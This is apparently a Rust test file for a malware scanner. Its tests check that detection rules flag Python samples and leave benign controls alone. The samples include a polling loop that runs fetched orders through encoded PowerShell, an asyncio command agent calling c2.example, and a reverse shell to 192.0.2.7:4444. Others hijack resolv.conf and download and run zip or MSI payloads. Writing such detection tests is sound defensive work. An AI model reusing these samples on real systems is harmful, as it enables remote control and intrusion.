//! Behaviour tests for the thirteenth round (what blind batch 12 showed:
//! remote control through Windows shells fed a base64 script, through
//! worker threads that fetch the orders, and through functions injected
//! with `or` defaults kept on `self`), spelled unlike the batch, each with
//! a control. Every malicious case is misjudged by the release at ca13d28.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// Orders fetched over HTTP and handed, through a handler table, to
/// PowerShell as an encoded script are remote command execution, the
/// shell's name spelled plainly or decoded (ca13d28: LOW).
#[test]
fn orders_run_as_an_encoded_powershell_script_are_remote_commands() {
    let relay = "import base64, subprocess, time, requests\nPS = base64.b64decode('cG93ZXJzaGVsbA==').decode()\ndef run(text):\n    blob = base64.b64encode(text.encode('utf-16-le')).decode()\n    return subprocess.run([PS, '-NoProfile', '-EncodedCommand', blob], capture_output=True).stdout\nOPS = {'run': run}\nwhile True:\n    job = requests.get('http://198.51.100.9/next').json()\n    OPS[job['op']](job['arg'])\n    time.sleep(30)\n";
    let a = run(relay);
    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let rot = relay.replace(
        "base64.b64decode('cG93ZXJzaGVsbA==').decode()",
        "__import__('codecs').decode('cbjrefuryy', 'rot13')",
    );
    assert!(rules(&run(&rot)).contains(&"MB913"));
    let cmd = relay.replace(
        "[PS, '-NoProfile', '-EncodedCommand', blob]",
        "['cmd.exe', '/c', text]",
    );
    assert!(rules(&run(&cmd)).contains(&"MB913"));
}

/// A fixed PowerShell query whose output is posted is no remote command.
#[test]
fn a_fixed_powershell_query_is_not_a_remote_command() {
    let report = "import base64, subprocess, sys, requests\nQ = 'Get-HotFix | ConvertTo-Json'\nblob = base64.b64encode(Q.encode('utf-16-le')).decode()\nout = subprocess.run(['powershell', '-EncodedCommand', blob], capture_output=True).stdout\nrequests.post(sys.argv[1], data=out)\n";
    let a = run(report);
    assert!(!rules(&a).contains(&"MB913"), "{:?}", a.findings);
}

/// `await loop.run_in_executor(None, fetch)` and `asyncio.to_thread(fetch)`
/// are worth what `fetch` returns: orders fetched there and run are remote
/// commands (ca13d28: MEDIUM).
#[test]
fn orders_fetched_in_a_worker_thread_are_remote_commands() {
    let agent = "import asyncio, json, subprocess, urllib.request\ndef fetch():\n    with urllib.request.urlopen('https://c2.example/o') as r:\n        return json.load(r)\ndef apply(order):\n    return subprocess.check_output(order['cmd'], shell=True)\nasync def main():\n    loop = asyncio.get_running_loop()\n    while True:\n        orders = await loop.run_in_executor(None, fetch)\n        for o in orders:\n            await loop.run_in_executor(None, apply, o)\n        await asyncio.sleep(60)\nasyncio.run(main())\n";
    let a = run(agent);
    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
    let threads = agent.replace("loop.run_in_executor(None, ", "asyncio.to_thread(");
    assert!(rules(&run(&threads)).contains(&"MB913"));
}

/// A status fetched in a worker thread that only picks a fixed message is
/// no remote command.
#[test]
fn a_status_fetched_in_a_worker_thread_choosing_a_fixed_command_is_not() {
    let watch = "import asyncio, json, subprocess, sys, urllib.request\ndef fetch(u):\n    with urllib.request.urlopen(u) as r:\n        return json.load(r)\ndef notify(state):\n    msg = 'red' if state == 'failed' else 'green'\n    subprocess.run(['notify-send', 'CI', msg])\nasync def main():\n    loop = asyncio.get_running_loop()\n    st = await loop.run_in_executor(None, fetch, sys.argv[1])\n    await loop.run_in_executor(None, notify, st.get('state'))\nasyncio.run(main())\n";
    let a = run(watch);
    assert!(!rules(&a).contains(&"MB913"), "{:?}", a.findings);
    assert_ne!(a.verdict, Verdict::Blocked);
}

/// `dup2` and `pty.spawn` kept on `self` behind an injectable parameter
/// (`wire or os.dup2`) still wire the socket to a shell (ca13d28: MEDIUM).
#[test]
fn dup2_and_spawn_kept_on_self_behind_or_defaults_make_a_reverse_shell() {
    let console = "import os, socket\nclass C:\n    def __init__(self, peer, wire=None, launch=None):\n        self.peer = peer\n        self.wire = wire or os.dup2\n        self.launch = launch or __import__('pty').spawn\n    def open(self):\n        s = socket.create_connection(self.peer)\n        for i in (0, 1, 2):\n            self.wire(s.fileno(), i)\n        self.launch('/bin/sh')\nC(('192.0.2.7', 4444)).open()\n";
    let a = run(console);
    assert!(rules(&a).contains(&"MB901"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A logger kept on `self` behind an `or` default resolves to the logger,
/// and a socket client that spawns nothing is no reverse shell.
#[test]
fn an_injected_logger_on_self_is_no_reverse_shell() {
    let client = "import logging, socket\nclass C:\n    def __init__(self, log=None):\n        self.log = log or logging.info\n    def ping(self):\n        s = socket.create_connection(('example.org', 80))\n        self.log('connected %s', s.fileno())\nC().ping()\n";
    let a = run(client);
    assert!(!rules(&a).contains(&"MB901"), "{:?}", a.findings);
    assert_ne!(a.verdict, Verdict::Blocked);
}

/// /etc/resolv.conf written with an outside resolver kept as hex in a
/// literal, decoded in a comprehension, is traffic hijacked (ca13d28:
/// HIGH, MB201 only).
#[test]
fn a_resolver_kept_encoded_is_an_outside_resolver() {
    let tune = "R = [bytes.fromhex(h).decode() for h in ('3230332e302e3131332e3533',)]\nwith open('/etc/resolv.conf', 'w') as fh:\n    fh.write(''.join('nameserver %s\\n' % r for r in R))\n";
    let a = run(tune);
    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A well-known public resolver kept encoded is still an administrator's
/// choice: MB201 for the system file, no hijack.
#[test]
fn a_public_resolver_kept_encoded_is_no_hijack() {
    let quad9 = "import base64\nR = [base64.b64decode(h).decode() for h in ('OS45LjkuOQ==',)]\nwith open('/etc/resolv.conf', 'w') as fh:\n    fh.write(''.join('nameserver %s\\n' % r for r in R))\n";
    let a = run(quad9);
    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
}

/// A zip saved from a response with `copyfileobj`, extracted into a hidden
/// folder, and a member of it made executable and started is a dropper
/// (ca13d28: LOW, the copy and the extraction were not followed).
#[test]
fn a_downloaded_archive_extracted_and_run_is_a_dropper() {
    let stage = "import os, shutil, subprocess, urllib.request, zipfile\nD = os.path.expanduser('~/.cache/.upd')\nwith urllib.request.urlopen('https://x.example/p.zip') as r, open('/tmp/p.zip', 'wb') as fh:\n    shutil.copyfileobj(r, fh)\nwith zipfile.ZipFile('/tmp/p.zip') as z:\n    z.extractall(D)\nexe = os.path.join(D, 'updd')\nos.chmod(exe, 0o755)\nsubprocess.Popen([exe], start_new_session=True)\n";
    let a = run(stage);
    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let unpacked = stage.replace(
        "with zipfile.ZipFile('/tmp/p.zip') as z:\n    z.extractall(D)",
        "shutil.unpack_archive('/tmp/p.zip', D)",
    );
    assert!(rules(&run(&unpacked)).contains(&"MB915"));
}

/// An extracted download that is only read (documentation), or a program
/// run from elsewhere, is no dropper.
#[test]
fn an_extracted_download_that_is_not_run_is_no_dropper() {
    let docs = "import os, shutil, subprocess, urllib.request, zipfile\nD = 'docs'\nwith urllib.request.urlopen('https://x.example/d.zip') as r, open('/tmp/d.zip', 'wb') as fh:\n    shutil.copyfileobj(r, fh)\nwith zipfile.ZipFile('/tmp/d.zip') as z:\n    z.extractall(D)\nprint(open(os.path.join(D, 'index.html')).read()[:80])\nsubprocess.run(['/usr/bin/xdg-open', 'https://x.example'])\n";
    let a = run(docs);
    assert!(!rules(&a).contains(&"MB915"), "{:?}", a.findings);
    assert_ne!(a.verdict, Verdict::Blocked);
}

/// An installer package saved from the network and handed to `msiexec`
/// among its options is run (ca13d28: LOW, only the first word was
/// compared).
#[test]
fn a_downloaded_package_given_to_msiexec_is_a_dropper() {
    let setup = "import subprocess, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/c.msi', 'C:/Temp/c.msi')\nsubprocess.Popen(['msiexec', '/i', 'C:/Temp/c.msi', '/qn'], creationflags=0x08000000)\n";
    let a = run(setup);
    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
    let other = setup.replace(
        "['msiexec', '/i', 'C:/Temp/c.msi', '/qn']",
        "['msiexec', '/x', '{GUID}', '/qn']",
    );
    assert!(!rules(&run(&other)).contains(&"MB915"));
}
